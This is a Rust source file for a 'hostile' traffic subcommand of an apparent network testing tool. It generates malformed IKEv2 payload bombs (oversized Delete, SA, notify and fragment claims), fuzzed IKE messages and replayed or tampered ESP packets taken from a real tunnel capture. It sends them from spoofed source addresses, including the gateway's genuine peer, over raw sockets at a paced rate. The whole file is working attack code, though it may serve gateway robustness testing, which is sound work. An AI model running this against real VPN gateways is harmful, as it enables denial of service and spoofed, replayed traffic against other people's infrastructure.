//! `nettool hostile`: a bounded mix of hostile datagrams against a gateway's UDP 500, UDP
//! 4500 (IKE behind the non-ESP marker, and ESP-in-UDP) and raw ESP, from spoofed sources
//! (random hosts of `--spoof` prefixes, and the peer's own address `--peer`):
//!
//! - payload bombs: a datagram of Delete payloads with SPI size 0 claiming 65,535 SPIs
//!   each (180 of them in 1,472 bytes; a few 64 KiB ones, sent as IPv4 fragments), SA
//!   payloads claiming 255 proposals/transforms or huge attributes, traffic selector and
//!   notify payloads claiming what they do not carry, hundreds of 4-byte payloads,
//!   payload and header lengths of 0, 1, 3 or past the end, SKF fragments claiming 65,535
//!   fragments, SK payloads of garbage for the real IKE SA;
//! - truncated and randomly mutated IKE messages, starting from a real IKE_SA_INIT and from
//!   every IKE message of a capture (`--replay PCAP`: the real IKE_SA_INIT and IKE_AUTH);
//! - ESP from the capture: replayed as is, replayed from another source port or address
//!   (a NAT-T float attempt), replayed as raw ESP, tampered (a flipped byte, a sequence
//!   number far ahead: the ICV fails), unknown SPIs, truncated packets.
//!
//! Every kind is sent in turn (round robin; the 64 KiB bomb at most `--big` times) until
//! `--count` datagrams or `--seconds` have passed, paced at `--rate` per second. The same
//! `--seed` sends the same packets. Output: one `hostile kind=NAME sent=N` line per kind,
//! then `hostile sent=N errors=E seconds=S seed=X ike_templates=T esp_templates=E`.

use std::collections::BTreeMap;
use std::net::{Ipv4Addr, SocketAddrV4};
use std::time::Duration;

use crate::ikeflood::{self, finish, header, payload, pt, FLAG_INITIATOR, FLAG_RESPONSE};
use crate::spoof::{below, Pacer, RawSender, Sources, ESP_PROTO, MAX_UDP_PAYLOAD, MTU_UDP_PAYLOAD};
use crate::XorShift;

/// What to send.
pub struct HostileOpts {
    /// The gateway under attack.
    pub target: Ipv4Addr,
    /// The gateway's real peer (spoofed as a source; its IKE SA and ESP are replayed).
    pub peer: Option<Ipv4Addr>,
    /// Other source prefixes to spoof.
    pub spoof: Sources,
    /// At most this many datagrams.
    pub count: u64,
    /// For at most this long.
    pub seconds: f64,
    /// Datagrams per second.
    pub rate: Option<f64>,
    /// How many 64 KiB bombs (each is 45 IPv4 fragments).
    pub big: u64,
    /// Random seed.
    pub seed: u64,
    /// A pcap of the real tunnel (its IKE messages and ESP packets are used).
    pub replay: Option<Vec<u8>>,
}

/// Where a datagram goes.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Dest {
    /// UDP to this port of the target.
    Udp(u16),
    /// Raw ESP (IP protocol 50).
    Esp,
}

/// One datagram to send.
struct Shot {
    src: Ipv4Addr,
    sport: u16,
    dest: Dest,
    data: Vec<u8>,
}

/// The kinds of datagrams, sent in this order over and over.
const KINDS: [&str; 18] = [
    "delete_bomb",
    "delete_bomb_64k",
    "sa_bomb",
    "ts_bomb",
    "notify_bomb",
    "tiny_payloads",
    "bad_lengths",
    "skf_bomb",
    "sk_garbage",
    "truncated",
    "mutated",
    "garbage",
    "esp_replay",
    "esp_replay_moved",
    "esp_replay_raw",
    "esp_tampered",
    "esp_random_spi",
    "esp_short",
];

/// What the capture taught: whole IKE messages, inbound ESP packets (UDP payloads), the
/// real IKE SA's SPIs and the peer's inbound-to-target SPIs.
#[derive(Default)]
struct Learned {
    ike: Vec<Vec<u8>>,
    esp: Vec<Vec<u8>>,
    ike_spis: Vec<(u64, u64)>,
}

impl Learned {
    fn from_pcap(data: &[u8], target: Ipv4Addr, peer: Option<Ipv4Addr>) -> Result<Self, String> {
        let frames = interop::ikewire::pcap_ipv4(data).ok_or("--replay is not a classic pcap file")?;
        let mut l = Self::default();
        for f in frames {
            // Whole, unfragmented packets only (the capture may cut long ones short).
            let total = f.ip.get(2..4).map_or(usize::MAX, |b| usize::from(u16::from_be_bytes([b[0], b[1]])));
            let more_fragments = f.ip.get(6).is_some_and(|b| b & 0x20 != 0);
            let Some(ip) = f.ip.get(..total).filter(|_| !more_fragments) else { continue };
            let Some(udp) = interop::ikewire::udp_in_ipv4(ip) else { continue };
            if let Some(ike) = interop::ikewire::ike_in_udp(&udp) {
                if let (Ok(i), Ok(r)) = (ike[..8].try_into(), ike[8..16].try_into()) {
                    let spis = (u64::from_be_bytes(i), u64::from_be_bytes(r));
                    if spis.1 != 0 && !l.ike_spis.contains(&spis) {
                        l.ike_spis.push(spis);
                    }
                }
                l.ike.push(ike.to_vec());
            } else if udp.dport == 4500
                && udp.dst == target
                && peer.is_none_or(|p| p == udp.src)
                && udp.payload.len() >= 8
                && udp.payload[..4] != [0; 4]
            {
                l.esp.push(udp.payload.to_vec());
            }
        }
        Ok(l)
    }
}

/// The generator's state.
struct Gen<'a> {
    opts: &'a HostileOpts,
    rng: XorShift,
    learned: Learned,
    templates: Vec<Vec<u8>>,
}

impl Gen<'_> {
    fn coin(&mut self) -> bool {
        self.rng.next() & 1 == 1
    }

    fn pick<'b, T>(&mut self, items: &'b [T]) -> Option<&'b T> {
        items.get(below(&mut self.rng, items.len()))
    }

    /// A spoofed source: the peer half of the time, else a random spoofed host.
    fn src(&mut self) -> Ipv4Addr {
        let use_peer = self.coin() || self.opts.spoof.0.is_empty();
        match self.opts.peer {
            Some(p) if use_peer => p,
            _ => self.opts.spoof.pick(&mut self.rng),
        }
    }

    fn ike_port(&mut self) -> u16 {
        if self.coin() {
            500
        } else {
            4500
        }
    }

    /// An IKE datagram to a random IKE port from a random spoofed source.
    fn ike_shot(&mut self, ike: Vec<u8>) -> Shot {
        let port = self.ike_port();
        Shot { src: self.src(), sport: port, dest: Dest::Udp(port), data: ikeflood::on_port(port, &ike) }
    }

    /// The real IKE SA's SPIs (half the time, when known) or random ones.
    fn spis(&mut self) -> (u64, u64) {
        let known = self.learned.ike_spis.clone();
        match self.pick(&known) {
            Some(s) if self.coin() => *s,
            _ => (self.rng.next(), self.rng.next()),
        }
    }

    fn random_bytes(&mut self, len: usize) -> Vec<u8> {
        let mut v = vec![0u8; len];
        self.rng.fill(&mut v);
        v
    }

    /// Delete payloads with SPI size 0 (or 4) claiming 65,535 SPIs, as many as fit.
    fn delete_bomb(&mut self, budget: usize) -> Vec<u8> {
        let (spi_i, spi_r) = self.spis();
        let n = budget.saturating_sub(28) / 8;
        let mut msg = header(spi_i, spi_r, pt::DELETE, ikeflood::INFORMATIONAL, FLAG_INITIATOR, 0);
        let spi_size = if self.coin() { 0 } else { 4 };
        let proto = if self.coin() { 1 } else { 3 };
        for k in 0..n {
            let next = if k + 1 < n { pt::DELETE } else { 0 };
            payload(&mut msg, next, &[proto, spi_size, 0xff, 0xff]);
        }
        finish(msg)
    }

    fn sa_bomb(&mut self) -> Vec<u8> {
        let mut body = Vec::new();
        match below(&mut self.rng, 4) {
            0 => {
                // 179 proposals of 8 bytes (all that fit behind the marker), each
                // claiming 255 transforms.
                for k in 0..179u8 {
                    let more = if k < 178 { 2 } else { 0 };
                    body.extend_from_slice(&[more, 0, 0, 8, k.wrapping_add(1), 1, 0, 255]);
                }
            }
            1 => {
                // One proposal claiming a 255-byte SPI and 255 transforms in 8 bytes.
                body.extend_from_slice(&[0, 0, 0, 8, 1, 3, 255, 255]);
            }
            2 => {
                // 255 transforms claimed; 118 present, each with a TLV attribute claiming 65,535 bytes.
                let mut transforms = Vec::new();
                for k in 0..118u16 {
                    let more = if k < 117 { 3 } else { 0 };
                    transforms.extend_from_slice(&[more, 0, 0, 12, 1, 0, 0, 20, 0x00, 0x0e, 0xff, 0xff]);
                }
                let len = (8 + transforms.len()) as u16;
                body.extend_from_slice(&[0, 0]);
                body.extend_from_slice(&len.to_be_bytes());
                body.extend_from_slice(&[1, 1, 0, 255]);
                body.extend_from_slice(&transforms);
            }
            _ => {
                // Transform lengths below the header size (0 and 4).
                body.extend_from_slice(&[0, 0, 0, 16, 1, 1, 0, 2, 3, 0, 0, 0, 0, 0, 0, 4]);
            }
        }
        let mut msg = header(self.rng.next(), 0, pt::SA, ikeflood::IKE_SA_INIT, FLAG_INITIATOR, 0);
        payload(&mut msg, 0, &body);
        finish(msg)
    }

    fn ts_bomb(&mut self) -> Vec<u8> {
        let (spi_i, spi_r) = self.spis();
        let exchange = if self.coin() { ikeflood::IKE_AUTH } else { ikeflood::CREATE_CHILD_SA };
        let mut msg = header(spi_i, spi_r, pt::TSI, exchange, FLAG_INITIATOR, 1);
        // 255 selectors claimed; one present with a selector length of 0 or 65,535.
        let sel_len: [u8; 2] = if self.coin() { [0, 0] } else { [0xff, 0xff] };
        let ts = [255, 0, 0, 0, 7, 0, sel_len[0], sel_len[1]];
        payload(&mut msg, pt::TSR, &ts);
        payload(&mut msg, 0, &[255, 0, 0, 0]);
        finish(msg)
    }

    fn notify_bomb(&mut self) -> Vec<u8> {
        const TYPES: [u16; 7] = [16390, 17, 16388, 16389, 16393, 16384, 7];
        let response = self.coin();
        let spi_r = if response { self.rng.next() } else { 0 };
        let flags = if response { FLAG_RESPONSE } else { FLAG_INITIATOR };
        let mut msg = header(self.rng.next(), spi_r, pt::NOTIFY, ikeflood::IKE_SA_INIT, flags, 0);
        for k in 0..179 {
            let next = if k < 178 { pt::NOTIFY } else { 0 };
            let kind = *self.pick(&TYPES).unwrap_or(&16390);
            let spi_size = if self.coin() { 0 } else { 255 };
            let t = kind.to_be_bytes();
            payload(&mut msg, next, &[0, spi_size, t[0], t[1]]);
        }
        finish(msg)
    }

    fn tiny_payloads(&mut self) -> Vec<u8> {
        let (spi_i, spi_r) = self.spis();
        let exchange = *self.pick(&[ikeflood::IKE_SA_INIT, ikeflood::INFORMATIONAL]).unwrap_or(&34);
        let mut msg = header(spi_i, spi_r, 200, exchange, FLAG_INITIATOR, 0);
        let critical = if self.coin() { 0x80 } else { 0 };
        let n = (MTU_UDP_PAYLOAD - 4 - 28) / 4;
        for k in 0..n {
            let next = if k + 1 < n { 200 } else { 0 };
            msg.extend_from_slice(&[next, critical, 0, 4]);
        }
        finish(msg)
    }

    fn bad_lengths(&mut self) -> Vec<u8> {
        let mut msg = ikeflood::ike_sa_init(&mut self.rng, 31).unwrap_or_default();
        match below(&mut self.rng, 6) {
            // The first payload's length: 0, 1, 3 (below its own header) or past the end.
            0 => msg[30..32].copy_from_slice(&0u16.to_be_bytes()),
            1 => msg[30..32].copy_from_slice(&1u16.to_be_bytes()),
            2 => msg[30..32].copy_from_slice(&3u16.to_be_bytes()),
            3 => msg[30..32].copy_from_slice(&u16::MAX.to_be_bytes()),
            // The header's length: below a header, or far beyond the datagram.
            4 => msg[24..28].copy_from_slice(&(below(&mut self.rng, 28) as u32).to_be_bytes()),
            _ => msg[24..28].copy_from_slice(&u32::MAX.to_be_bytes()),
        }
        msg
    }

    fn skf_bomb(&mut self) -> Vec<u8> {
        let (spi_i, spi_r) = self.spis();
        let mut msg = header(spi_i, spi_r, pt::SKF, ikeflood::IKE_AUTH, FLAG_INITIATOR, 1);
        let number = 1 + below(&mut self.rng, 65_535) as u16;
        let mut body = number.to_be_bytes().to_vec();
        body.extend_from_slice(&u16::MAX.to_be_bytes());
        let len = 1 + below(&mut self.rng, 1200);
        body.extend(self.random_bytes(len));
        payload(&mut msg, pt::SK, &body);
        finish(msg)
    }

    fn sk_garbage(&mut self) -> Vec<u8> {
        let (spi_i, spi_r) = self.spis();
        let exchange =
            *self.pick(&[ikeflood::IKE_AUTH, ikeflood::CREATE_CHILD_SA, ikeflood::INFORMATIONAL]).unwrap_or(&37);
        let flags = if self.coin() { FLAG_INITIATOR } else { FLAG_RESPONSE };
        let msg_id = if self.coin() { below(&mut self.rng, 8) as u32 } else { self.rng.next() as u32 };
        let mut msg = header(spi_i, spi_r, pt::SK, exchange, flags, msg_id);
        let len = below(&mut self.rng, 1400);
        let body = self.random_bytes(len);
        payload(&mut msg, pt::NOTIFY, &body);
        finish(msg)
    }

    fn template(&mut self) -> Vec<u8> {
        let t = self.templates.clone();
        self.pick(&t).cloned().unwrap_or_default()
    }

    fn truncated(&mut self) -> Vec<u8> {
        let mut msg = self.template();
        let cut = below(&mut self.rng, msg.len());
        msg.truncate(cut);
        if cut >= 28 && self.coin() {
            msg = finish(msg);
        }
        msg
    }

    fn mutated(&mut self) -> Vec<u8> {
        let mut msg = self.template();
        let n = 1 + below(&mut self.rng, 8);
        for _ in 0..n {
            if msg.is_empty() {
                break;
            }
            let at = below(&mut self.rng, msg.len());
            match below(&mut self.rng, 7) {
                0 => msg[at] ^= 1 << below(&mut self.rng, 8),
                1 => msg[at] = 0,
                2 => msg[at] = 0xff,
                3 => msg[at] = self.rng.next() as u8,
                4 => {
                    // A 16-bit field (most lengths and counts) set to 0, 65,535 or random.
                    let random = self.rng.next() as u16;
                    let v = *self.pick(&[0u16, u16::MAX, random]).unwrap_or(&0);
                    if let Some(f) = msg.get_mut(at..at + 2) {
                        f.copy_from_slice(&v.to_be_bytes());
                    }
                }
                5 if msg.len() < MTU_UDP_PAYLOAD - 4 => msg.insert(at, self.rng.next() as u8),
                _ => {
                    msg.remove(at);
                }
            }
        }
        if msg.len() >= 28 && self.coin() {
            msg = finish(msg);
        }
        msg
    }

    fn garbage(&mut self) -> Shot {
        let len = below(&mut self.rng, MTU_UDP_PAYLOAD + 1);
        let mut data = self.random_bytes(len);
        let dest = *self.pick(&[Dest::Udp(500), Dest::Udp(4500), Dest::Esp]).unwrap_or(&Dest::Esp);
        if dest == Dest::Udp(4500) && data.len() >= 4 && self.coin() {
            data[..4].fill(0);
        }
        let port = if let Dest::Udp(p) = dest { p } else { 0 };
        Shot { src: self.src(), sport: port, dest, data }
    }

    /// A captured inbound ESP packet (UDP payload), if any.
    fn esp_packet(&mut self) -> Option<Vec<u8>> {
        let esp = std::mem::take(&mut self.learned.esp);
        let p = self.pick(&esp).cloned();
        self.learned.esp = esp;
        p
    }

    fn peer(&mut self) -> Ipv4Addr {
        self.opts.peer.unwrap_or_else(|| self.opts.spoof.pick(&mut self.rng))
    }

    fn esp_random(&mut self) -> Shot {
        let len = 8 + below(&mut self.rng, 1400);
        let data = self.random_bytes(len);
        self.esp_shot(data)
    }

    /// ESP from the peer, in UDP from port 4500 or raw, at random.
    fn esp_shot(&mut self, data: Vec<u8>) -> Shot {
        let dest = if self.coin() { Dest::Udp(4500) } else { Dest::Esp };
        Shot { src: self.peer(), sport: 4500, dest, data }
    }

    fn shot(&mut self, kind: &str) -> Shot {
        match kind {
            "delete_bomb" => {
                let port = self.ike_port();
                let budget = if port == 4500 { MTU_UDP_PAYLOAD - 4 } else { MTU_UDP_PAYLOAD };
                let ike = self.delete_bomb(budget);
                Shot { src: self.src(), sport: port, dest: Dest::Udp(port), data: ikeflood::on_port(port, &ike) }
            }
            "delete_bomb_64k" => {
                let port = self.ike_port();
                let budget = if port == 4500 { MAX_UDP_PAYLOAD - 4 } else { MAX_UDP_PAYLOAD };
                let ike = self.delete_bomb(budget);
                Shot { src: self.src(), sport: port, dest: Dest::Udp(port), data: ikeflood::on_port(port, &ike) }
            }
            "sa_bomb" => {
                let m = self.sa_bomb();
                self.ike_shot(m)
            }
            "ts_bomb" => {
                let m = self.ts_bomb();
                self.ike_shot(m)
            }
            "notify_bomb" => {
                let m = self.notify_bomb();
                self.ike_shot(m)
            }
            "tiny_payloads" => {
                let m = self.tiny_payloads();
                self.ike_shot(m)
            }
            "bad_lengths" => {
                let m = self.bad_lengths();
                self.ike_shot(m)
            }
            "skf_bomb" => {
                let m = self.skf_bomb();
                self.ike_shot(m)
            }
            "sk_garbage" => {
                let m = self.sk_garbage();
                self.ike_shot(m)
            }
            "truncated" => {
                let m = self.truncated();
                self.ike_shot(m)
            }
            "mutated" => {
                let m = self.mutated();
                self.ike_shot(m)
            }
            "garbage" => self.garbage(),
            "esp_replay" => match self.esp_packet() {
                Some(data) => Shot { src: self.peer(), sport: 4500, dest: Dest::Udp(4500), data },
                None => self.esp_random(),
            },
            "esp_replay_moved" => match self.esp_packet() {
                Some(data) => {
                    // Another port of the peer's address, or another address: a float attempt.
                    let (src, sport) = if self.coin() || self.opts.spoof.0.is_empty() {
                        (self.peer(), 1024 + below(&mut self.rng, 60_000) as u16)
                    } else {
                        (self.opts.spoof.pick(&mut self.rng), 4500)
                    };
                    Shot { src, sport, dest: Dest::Udp(4500), data }
                }
                None => self.esp_random(),
            },
            "esp_replay_raw" => match self.esp_packet() {
                Some(data) => Shot { src: self.peer(), sport: 0, dest: Dest::Esp, data },
                None => self.esp_random(),
            },
            "esp_tampered" => match self.esp_packet() {
                Some(mut data) => {
                    if self.coin() {
                        // A sequence number far ahead: must not move the replay window.
                        let seq = u32::from_be_bytes([data[4], data[5], data[6], data[7]]);
                        let ahead = seq.wrapping_add(1 + (self.rng.next() as u32 >> 1));
                        data[4..8].copy_from_slice(&ahead.to_be_bytes());
                    }
                    let at = 8 + below(&mut self.rng, data.len() - 8);
                    data[at] ^= 1 << below(&mut self.rng, 8);
                    self.esp_shot(data)
                }
                None => self.esp_random(),
            },
            "esp_random_spi" => self.esp_random(),
            _ => {
                // Shorter than an ESP header (a 1-byte 0xff is a NAT keepalive).
                let len = below(&mut self.rng, 16);
                let mut data = match self.esp_packet() {
                    Some(p) => p,
                    None => self.random_bytes(16),
                };
                data.truncate(len);
                if len == 1 {
                    data[0] = 0xff;
                }
                self.esp_shot(data)
            }
        }
    }
}

/// What was sent.
pub struct HostileReport {
    /// Datagrams sent per kind.
    pub per_kind: BTreeMap<&'static str, u64>,
    /// Datagrams sent.
    pub sent: u64,
    /// Sends the kernel refused.
    pub errors: u64,
    /// How long it took.
    pub seconds: f64,
    /// The seed.
    pub seed: u64,
    /// IKE messages learned from the capture (plus the built IKE_SA_INIT).
    pub ike_templates: usize,
    /// ESP packets learned from the capture.
    pub esp_templates: usize,
}

impl std::fmt::Display for HostileReport {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        for (kind, n) in &self.per_kind {
            writeln!(f, "hostile kind={kind} sent={n}")?;
        }
        write!(
            f,
            "hostile sent={} errors={} seconds={:.3} seed={} ike_templates={} esp_templates={}",
            self.sent, self.errors, self.seconds, self.seed, self.ike_templates, self.esp_templates
        )
    }
}

/// Sends the mix.
pub fn run(opts: &HostileOpts) -> Result<HostileReport, String> {
    let learned = match &opts.replay {
        Some(data) => Learned::from_pcap(data, opts.target, opts.peer)?,
        None => Learned::default(),
    };
    let mut rng = XorShift::new(opts.seed);
    let mut templates = learned.ike.clone();
    templates.push(ikeflood::ike_sa_init(&mut rng, 31).unwrap_or_default());
    let (ike_templates, esp_templates) = (templates.len(), learned.esp.len());
    let mut g = Gen { opts, rng, learned, templates };
    let mut tx = RawSender::open()?;
    let pacer = Pacer::new(opts.rate);
    let limit = Duration::from_secs_f64(opts.seconds.max(0.0));
    let mut per_kind = BTreeMap::new();
    let (mut sent, mut big) = (0u64, 0u64);
    let mut turn = 0usize;
    while sent < opts.count && pacer.elapsed() < limit {
        let mut kind = KINDS[turn % KINDS.len()];
        turn += 1;
        if kind == "delete_bomb_64k" {
            if big >= opts.big {
                kind = "delete_bomb";
            } else {
                big += 1;
            }
        }
        pacer.wait(sent);
        let shot = g.shot(kind);
        match shot.dest {
            Dest::Udp(port) => {
                tx.send_udp(SocketAddrV4::new(shot.src, shot.sport), SocketAddrV4::new(opts.target, port), &shot.data)
            }
            Dest::Esp => tx.send_ip(shot.src, opts.target, ESP_PROTO, &shot.data),
        }
        *per_kind.entry(kind).or_insert(0) += 1;
        sent += 1;
    }
    Ok(HostileReport {
        per_kind,
        sent,
        errors: tx.errors,
        seconds: pacer.elapsed().as_secs_f64(),
        seed: opts.seed,
        ike_templates,
        esp_templates,
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn gen(opts: &HostileOpts) -> Gen<'_> {
        let mut rng = XorShift::new(opts.seed);
        let templates = vec![ikeflood::ike_sa_init(&mut rng, 31).unwrap()];
        let learned = Learned { esp: vec![vec![0xaa; 60]], ike_spis: vec![(5, 6)], ..Learned::default() };
        Gen { opts, rng, learned, templates }
    }

    fn opts() -> HostileOpts {
        HostileOpts {
            target: Ipv4Addr::new(192, 0, 2, 1),
            peer: Some(Ipv4Addr::new(192, 0, 2, 2)),
            spoof: Sources(vec!["198.51.100.0/24".parse().unwrap()]),
            count: 0,
            seconds: 0.0,
            rate: None,
            big: 1,
            seed: 3,
            replay: None,
        }
    }

    #[test]
    fn delete_bomb_is_180_empty_deletes_claiming_65535_spis() {
        let o = opts();
        let mut g = gen(&o);
        let m = g.delete_bomb(MTU_UDP_PAYLOAD);
        assert_eq!(m.len(), 28 + 180 * 8);
        assert_eq!(u32::from_be_bytes(m[24..28].try_into().unwrap()) as usize, m.len());
        assert_eq!(m[16], pt::DELETE);
        for (k, p) in m[28..].chunks(8).enumerate() {
            assert_eq!(p[0], if k < 179 { pt::DELETE } else { 0 });
            assert_eq!(p[2..4], [0, 8]);
            assert_eq!(p[6..8], [0xff, 0xff]);
        }
        let big = g.delete_bomb(MAX_UDP_PAYLOAD);
        assert!(big.len() <= MAX_UDP_PAYLOAD && big.len() > 65_000);
    }

    #[test]
    fn every_kind_fits_its_datagram() {
        let o = opts();
        let mut g = gen(&o);
        for round in 0..50 {
            for kind in KINDS {
                let s = g.shot(kind);
                let max = if kind == "delete_bomb_64k" { MAX_UDP_PAYLOAD } else { MTU_UDP_PAYLOAD };
                assert!(s.data.len() <= max, "{kind} round {round}: {} bytes", s.data.len());
                if kind.starts_with("esp_replay") {
                    assert_eq!(s.data, vec![0xaa; 60], "{kind} replays the captured packet");
                }
            }
        }
    }

    #[test]
    fn learns_ike_and_inbound_esp_from_a_capture() {
        let frame = |src: [u8; 4], dst: [u8; 4], payload: &[u8]| {
            testkit::packet::ethernet_ipv4(&testkit::packet::ipv4_udp(src.into(), dst.into(), 4500, 4500, payload))
        };
        let mut ike = vec![0, 0, 0, 0];
        ike.extend_from_slice(&ikeflood::header(7, 9, 0, ikeflood::IKE_AUTH, 0, 1));
        let esp_in = [0x11; 40];
        let frames = [
            frame([192, 0, 2, 2], [192, 0, 2, 1], &ike),
            frame([192, 0, 2, 2], [192, 0, 2, 1], &esp_in),
            frame([192, 0, 2, 1], [192, 0, 2, 2], &[0x22; 40]),
        ];
        let mut pcap = vec![0xd4, 0xc3, 0xb2, 0xa1, 2, 0, 4, 0, 0, 0, 0, 0, 0, 0, 0, 0];
        pcap.extend_from_slice(&65_535u32.to_le_bytes());
        pcap.extend_from_slice(&1u32.to_le_bytes());
        for f in &frames {
            pcap.extend_from_slice(&[0; 8]);
            pcap.extend_from_slice(&(f.len() as u32).to_le_bytes());
            pcap.extend_from_slice(&(f.len() as u32).to_le_bytes());
            pcap.extend_from_slice(f);
        }
        let l = Learned::from_pcap(&pcap, Ipv4Addr::new(192, 0, 2, 1), Some(Ipv4Addr::new(192, 0, 2, 2))).unwrap();
        assert_eq!(l.ike.len(), 1);
        assert_eq!(l.ike_spis, vec![(7, 9)]);
        assert_eq!(l.esp, vec![esp_in.to_vec()]);
        assert!(Learned::from_pcap(b"nope", Ipv4Addr::LOCALHOST, None).is_err());
    }
}
